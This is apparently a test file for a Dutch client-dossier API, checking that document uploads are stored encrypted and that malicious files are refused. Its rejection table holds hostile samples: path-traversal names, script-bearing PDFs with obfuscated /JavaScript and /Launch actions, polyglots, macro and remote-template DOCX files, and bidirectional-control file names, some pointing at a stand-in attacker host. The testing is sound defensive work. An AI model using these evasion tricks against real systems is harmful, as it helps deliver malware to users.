import { expect } from 'chai';
import { crc32, deflateSync } from 'node:zlib';
import mongoose from 'mongoose';
import { testApp, type TestApp } from '../helpers/app';
import { rawDatabase } from '../helpers/rawDatabase';
import { samplePdf, samplePng } from '../helpers/samples';
import { apiAs, type Api } from '../helpers/session';
import { aWorld, JAN_BSN, type World } from '../helpers/world';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

describe('documents', () => {
  let t: TestApp;
  let world: World;
  let anna: Api;
  let csrf: string;
  let base: string;

  beforeEach(async () => {
    t = testApp();
    world = await aWorld();
    anna = await apiAs(t.app, t.config, world.users.anna);
    csrf = (await anna.get('/api/v1/auth/csrf').expect(200)).body.token as string;
    base = `/api/v1/clients/${String(world.clients.jan._id)}/documents`;
  });

  const upload = (file: Buffer, filename: string, contentType: string, category = 'cv') =>
    anna.agent.post(base).set('x-csrf-token', csrf).field('category', category).attach('file', file, { filepath: filename, contentType } as never); // filepath: form-data would cut folders off a plain filename
  const storedFiles = async () => ({
    documents: await mongoose.connection.db!.collection('documents').countDocuments(),
    files: await mongoose.connection.db!.collection('files.files').countDocuments(),
    chunks: await mongoose.connection.db!.collection('files.chunks').countDocuments(),
  });

  it('store an allowed file encrypted and give it back as an attachment', async () => {
    const created = await upload(samplePdf('PLANTED-MARKER-7731'), 'plan van aanpak.pdf', 'application/pdf', 'action_plan').expect(201);
    expect(created.body).to.include({ filename: 'plan van aanpak.pdf', contentType: 'application/pdf', category: 'action_plan' });

    const download = await anna.get(`${base}/${created.body._id as string}/content`).buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    }).expect(200);
    expect((download.body as Buffer).equals(samplePdf('PLANTED-MARKER-7731'))).to.equal(true);
    expect(download.headers['content-disposition']).to.match(/^attachment; filename="plan van aanpak.pdf"/);
    expect(download.headers['content-type']).to.equal('application/pdf');
    expect(download.headers['x-content-type-options']).to.equal('nosniff');
    expect(download.headers['cache-control']).to.equal('no-store');

    const raw = await rawDatabase();
    expect(raw).not.to.include('PLANTED-MARKER-7731');
    expect(raw).not.to.include('plan van aanpak');
    const list = await anna.get(base).expect(200);
    expect(list.body.items.map((item: { filename: string }) => item.filename)).to.include('plan van aanpak.pdf');
  });

  const rejected: [string, () => Buffer, string, string, number, RegExp][] = [
    ['a file whose content does not match its type', () => samplePng(), 'cv.pdf', 'application/pdf', 415, /past niet|geen PDF/],
    ['a type outside the allow-list', () => Buffer.from('<html><script>alert(1)</script></html>'), 'cv.html', 'text/html', 415, /niet toegestaan/],
    ['a script disguised as a PDF', () => Buffer.from('<script>alert(1)</script>'), 'cv.pdf', 'application/pdf', 415, /geen PDF/],
    ['an oversized file', () => Buffer.concat([samplePdf(), Buffer.alloc(10 * 1024 * 1024 + 1, 0x20)]), 'groot.pdf', 'application/pdf', 413, /groter dan 10 MB/],
    ['a path-traversal file name', () => samplePdf(), '../../etc/passwd.pdf', 'application/pdf', 400, /bestandsnaam/],
    ['a backslash path file name', () => samplePdf(), '..\\..\\boot.pdf', 'application/pdf', 400, /bestandsnaam/],
    ['a PNG with a PDF appended (polyglot)', () => Buffer.concat([samplePng(), samplePdf()]), 'foto.png', 'image/png', 415, /na het einde/],
    ['a PNG carrying a script inside', () => pngWithText('<script>alert(1)</script>'), 'foto.png', 'image/png', 415, /ingebedde code/],
    ['a PDF with a ZIP appended (polyglot)', () => Buffer.concat([samplePdf(), Buffer.from('PK\x03\x04rest-of-zip', 'latin1')]), 'cv.pdf', 'application/pdf', 415, /na het einde/],
    ['a PDF with JavaScript', () => Buffer.from('%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n', 'latin1'), 'cv.pdf', 'application/pdf', 415, /scripts/],
    // Actions hidden with name escapes (ISO 32000-1 §7.3.5: #61 is "a", #53 is "S").
    ['a PDF whose JavaScript is spelled /J#61vaScript', () => pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), 'cv.pdf', 'application/pdf', 415, /scripts/],
    ['a PDF that launches a program spelled /L#61unch', () => pdfWith('/OpenAction << /S /L#61unch /F (cmd.exe) >>'), 'cv.pdf', 'application/pdf', 415, /acties/],
    ['a PDF with a link to elsewhere (/URI)', () => pdfWith('/OpenAction << /S /URI /URI (https://aanvaller.example/x) >>'), 'cv.pdf', 'application/pdf', 415, /links naar buiten/],
    ['a PDF that submits a form elsewhere (/SubmitForm)', () => pdfWith('/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F (https://aanvaller.example/) >>'), 'cv.pdf', 'application/pdf', 415, /formulieren/],
    ['a PDF with a /Launch action', () => pdfWith('/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>'), 'cv.pdf', 'application/pdf', 415, /acties/],
    ['a PDF with a bare /JS entry', () => pdfWith('/Names << /JS 2 0 R >>'), 'cv.pdf', 'application/pdf', 415, /scripts/],
    ['a PDF with automatic actions (/AA)', () => pdfWith('/AA << /O << /S /GoTo /D [0 /Fit] >> >>'), 'cv.pdf', 'application/pdf', 415, /acties/],
    ['a PDF with /OpenAction running JavaScript inside a compressed object stream', () => pdfWithCompressed('<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>'), 'cv.pdf', 'application/pdf', 415, /scripts/],
    // Word documents: parts matched whatever their case, remote templates, embedded objects.
    ['a DOCX with macros named in capitals (word/VBAPROJECT.BIN)', () => docx({ 'word/VBAPROJECT.BIN': 'macro' }), 'brief.docx', DOCX, 415, /macro/],
    ['a DOCX that loads a remote template (attachedTemplate, TargetMode="External")', () => docx({
      'word/_rels/settings.xml.rels': relationships('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://aanvaller.example/sjabloon.dotm" TargetMode="External"/>'),
    }), 'brief.docx', DOCX, 415, /van buiten/],
    ['a DOCX with an embedded OLE object', () => docx({ 'word/embeddings/oleObject1.bin': 'ole' }), 'brief.docx', DOCX, 415, /ingebedde objecten/],
    ['a DOCX with an OLE object under another name', () => docx({
      'word/_rels/document.xml.rels': relationships('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/x.dat"/>'),
      'word/media/x.dat': 'ole',
    }), 'brief.docx', DOCX, 415, /ingebedde objecten/],
    // File names that read differently from what they are (Unicode bidirectional controls).
    ...['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F'].map((control): [string, () => Buffer, string, string, number, RegExp] => [
      `a file name with U+${control.codePointAt(0)!.toString(16).toUpperCase()}`, () => samplePdf(), `cv${control}fdp.exe.pdf`, 'application/pdf', 400, /leesrichting/,
    ]),
  ];
  for (const [what, file, filename, contentType, status, message] of rejected) {
    it(`refuse ${what} with a clear error and store nothing`, async () => {
      const before = await storedFiles();
      const response = await upload(file(), filename, contentType);
      expect(response.status).to.equal(status);
      expect(response.headers['content-type']).to.match(/application\/problem\+json/);
      expect(response.body.detail).to.match(message);
      expect(await storedFiles()).to.deep.equal(before);
    });
  }

  it('accept a plain Word document and a PDF with an ordinary compressed page', async () => {
    await upload(docx({}), 'brief.docx', DOCX).expect(201);
    await upload(pdfWithCompressed('BT /F1 12 Tf 72 712 Td (Hallo) Tj ET'), 'pagina.pdf', 'application/pdf').expect(201);
  });

  it('answer a malformed multipart request with 400 problem+json, never 500', async () => {
    const before = await storedFiles();
    const bodies: [string, string][] = [
      ['multipart/form-data', '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nabc\r\n--x--\r\n'], // no boundary
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition form-data name=file filename=a.pdf\r\nGarbage\r\n\r\n%PDF\r\n--x--\r\n'],
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4'], // cut off
    ];
    for (const [contentType, body] of bodies) {
      const response = await anna.agent.post(base).set('x-csrf-token', csrf).set('content-type', contentType).send(body);
      expect(response.status, `${contentType}: ${JSON.stringify(response.body)}`).to.equal(400);
      expect(response.headers['content-type']).to.match(/application\/problem\+json/);
      expect(response.body.detail).to.be.a('string').and.not.match(/Error|busboy|Multipart/);
    }
    expect(await storedFiles()).to.deep.equal(before);
  });

  it('refuse two files at once, or none', async () => {
    const two = await anna.agent.post(base).set('x-csrf-token', csrf).field('category', 'cv')
      .attach('file', samplePdf(), { filename: 'a.pdf', contentType: 'application/pdf' })
      .attach('file', samplePdf(), { filename: 'b.pdf', contentType: 'application/pdf' });
    expect(two.status).to.equal(400);
    const none = await anna.agent.post(base).set('x-csrf-token', csrf).field('category', 'cv');
    expect(none.status).to.equal(400);
    expect(none.body.detail).to.match(/Kies een bestand/);
    expect((await storedFiles()).files).to.equal(0);
  });
});

describe('dossier content at rest', () => {
  it('is ciphertext: consults, reports, consents, notes and the BSN contain no plaintext in the raw collections', async () => {
    const t = testApp();
    const world = await aWorld();
    const anna = await apiAs(t.app, t.config, world.users.anna);
    const jan = `/api/v1/clients/${String(world.clients.jan._id)}`;
    const marker = 'PLANTED-MARKER-4412';
    const consult = await anna.post(`${jan}/consults`, { date: '2026-11-20', durationMinutes: 30, kind: 'progress', summary: `Verslag ${marker}` }).expect(201);
    await anna.post(`${jan}/consults/${consult.body._id as string}/send`).expect(200);
    const janApi = await apiAs(t.app, t.config, world.users.janUser);
    await janApi.post(`${jan}/consults/${consult.body._id as string}/dispute`, { comment: `Opmerking ${marker}` }).expect(200);
    await anna.post(`${jan}/activities`, { date: '2026-11-20', kind: 'phone', minutes: 5, note: `Notitie ${marker}` }).expect(201);
    const report = await anna.post(`${jan}/reports`, { title: `Titel ${marker}`, periodStart: '2026-11-01', periodEnd: '2026-11-30', text: `Tekst ${marker}` }).expect(201);
    await anna.post(`${jan}/reports/${report.body._id as string}/send`).expect(200);
    await janApi.post(`${jan}/reports/${report.body._id as string}/approve`).expect(200);
    await janApi.post(`${jan}/reports/${report.body._id as string}/share`).expect(200); // the consent text names the title
    const consents = (await janApi.get(`${jan}/consents`).expect(200)).body.items as { text: string }[];
    expect(consents.some((consent) => consent.text.includes(`Titel ${marker}`))).to.equal(true);
    const intake = await anna.post('/api/v1/clients', {
      firstName: 'Kees', lastName: 'Test', trajectory: { kind: 'spoor2', startDate: '2026-11-01' }, bsn: '123456782',
    }).expect(201);
    expect(intake.body).to.include({ bsnMasked: '******782' }).and.not.have.property('bsn');

    const raw = await rawDatabase();
    expect(raw).not.to.include(marker);
    expect(raw).not.to.include('123456782');
    expect(raw).not.to.include(JAN_BSN);
    expect(raw).to.include('enc1:'); // and it is there, encrypted

    // A ciphertext copied into another record does not open there (associated data binds it to its place).
    const consults = mongoose.connection.db!.collection('consults');
    const stored = await consults.findOne({ _id: new mongoose.Types.ObjectId(consult.body._id as string) });
    await consults.updateOne({ _id: world.consults.janApproved._id }, { $set: { summary: stored!.summary } });
    const moved = await anna.get(`${jan}/consults/${String(world.consults.janApproved._id)}`);
    expect(moved.status).to.equal(500);
    expect(moved.text).not.to.include(marker);
  });
});

/** A PNG with a tEXt chunk holding `text` (CRC not checked by our inspection; the point is the content). */
function pngWithText(text: string): Buffer {
  const png = samplePng();
  const iend = png.length - 12;
  const data = Buffer.from(`Comment\0${text}`, 'latin1');
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([png.subarray(0, iend), length, Buffer.from('tEXt'), data, Buffer.alloc(4), png.subarray(iend)]);
}


/** A one-page PDF whose catalog carries `entries`. */
function pdfWith(entries: string): Buffer {
  return Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${entries} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
}

/** A PDF with `content` in a Flate-compressed stream, where plain text search cannot see it. */
function pdfWithCompressed(content: string): Buffer {
  const packed = deflateSync(Buffer.from(content, 'latin1'));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`, 'latin1'),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

function relationships(body: string): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
}

/** A minimal Word document (stored ZIP, APPNOTE.TXT) with extra or replaced parts. */
function docx(parts: Record<string, string>): Buffer {
  const files: Record<string, string> = {
    '[Content_Types].xml': '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': relationships('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'),
    'word/document.xml': '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Brief</w:t></w:r></w:p></w:body></w:document>',
    ...parts,
  };
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const data = Buffer.from(text, 'utf8');
    const nameBytes = Buffer.from(name, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}
